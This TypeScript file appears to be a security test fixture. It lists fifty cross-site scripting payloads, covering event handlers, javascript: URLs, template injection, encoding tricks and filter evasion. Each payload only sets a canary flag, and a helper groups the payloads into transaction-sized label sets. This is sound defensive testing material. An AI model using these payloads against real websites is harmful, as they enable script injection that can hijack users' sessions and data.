const BASE: readonly string[] = [
  '<script>window.skaldXss=1</script>',
  '<img src=x onerror=window.skaldXss=1>',
  '<svg onload=window.skaldXss=1>',
  '"><script>window.skaldXss=1</script>',
  `'><img src=x onerror=window.skaldXss=1>`,
  '</script><script>window.skaldXss=1</script>',
  '<iframe srcdoc="<script>parent.skaldXss=1</script>"></iframe>',
  '<iframe src=javascript:parent.skaldXss=1></iframe>',
  '<body onload=window.skaldXss=1>',
  '<input autofocus onfocus=window.skaldXss=1>',
  '<details open ontoggle=window.skaldXss=1>',
  '<video><source onerror=window.skaldXss=1></video>',
  '<audio src=x onerror=window.skaldXss=1>',
  '<object data=javascript:window.skaldXss=1>',
  '<embed src=javascript:window.skaldXss=1>',
  '<a href=javascript:window.skaldXss=1 autofocus>x</a>',
  '<form action=javascript:window.skaldXss=1><button>x</button></form>',
  '<marquee onstart=window.skaldXss=1>',
  '<math><mtext></mtext><script>window.skaldXss=1</script></math>',
  '<svg><script>window.skaldXss=1</script></svg>',
  '<svg><animate onbegin=window.skaldXss=1 attributeName=x></svg>',
  '<style>@import "javascript:window.skaldXss=1"</style>',
  '<style onload=window.skaldXss=1></style>',
  '<link rel=stylesheet href=javascript:window.skaldXss=1>',
  '<meta http-equiv=refresh content="0;url=javascript:window.skaldXss=1">',
  '<base href=javascript:window.skaldXss=1//>',
  '<template><script>window.skaldXss=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.skaldXss=1>">',
  '<!--><img src=x onerror=window.skaldXss=1>-->',
  '<![CDATA[><img src=x onerror=window.skaldXss=1>]]>',
  '{{constructor.constructor("window.skaldXss=1")()}}',
  '${window.skaldXss=1}',
  '#{window.skaldXss=1}',
  '<%= window.skaldXss=1 %>',
  'javascript:window.skaldXss=1',
  'data:text/html,<script>window.skaldXss=1</script>',
  '&lt;img src=x onerror=window.skaldXss=1&gt;',
  '\\u003cimg src=x onerror=window.skaldXss=1\\u003e',
  '%3Cimg%20src=x%20onerror=window.skaldXss=1%3E',
  '<IMG SRC=x ONERROR=window.skaldXss=1>',
  '<img/src=x/onerror=window.skaldXss=1>',
  '<img src="x` `<script>window.skaldXss=1</script>"` `>',
  '<scr<script>ipt>window.skaldXss=1</scr</script>ipt>',
  '<div style="background:url(javascript:window.skaldXss=1)">x</div>',
  '<div onpointerover=window.skaldXss=1 style=position:fixed;inset:0>x</div>',
  '<p onanimationstart=window.skaldXss=1 style=animation:x>x</p>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=window.skaldXss=1>x</p>',
  '__proto__[innerHTML]=<img src=x onerror=window.skaldXss=1>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.skaldXss=1>"}}',
  '<xss id=x tabindex=1 onfocus=window.skaldXss=1 autofocus></xss>',
];

/** Fifty texts that do something where a page takes text for markup, code or an address. */
export const PAYLOADS = BASE;

/** The payloads as sets of labels, no more per set than a transaction may have. */
export function labelSets(size = 16): Record<string, string>[] {
  const sets: Record<string, string>[] = [];
  for (let start = 0; start < PAYLOADS.length; start += size) {
    const some = PAYLOADS.slice(start, start + size);
    sets.push(Object.fromEntries(some.map((text, index) => [`x${start + index}`, text])));
  }
  return sets;
}
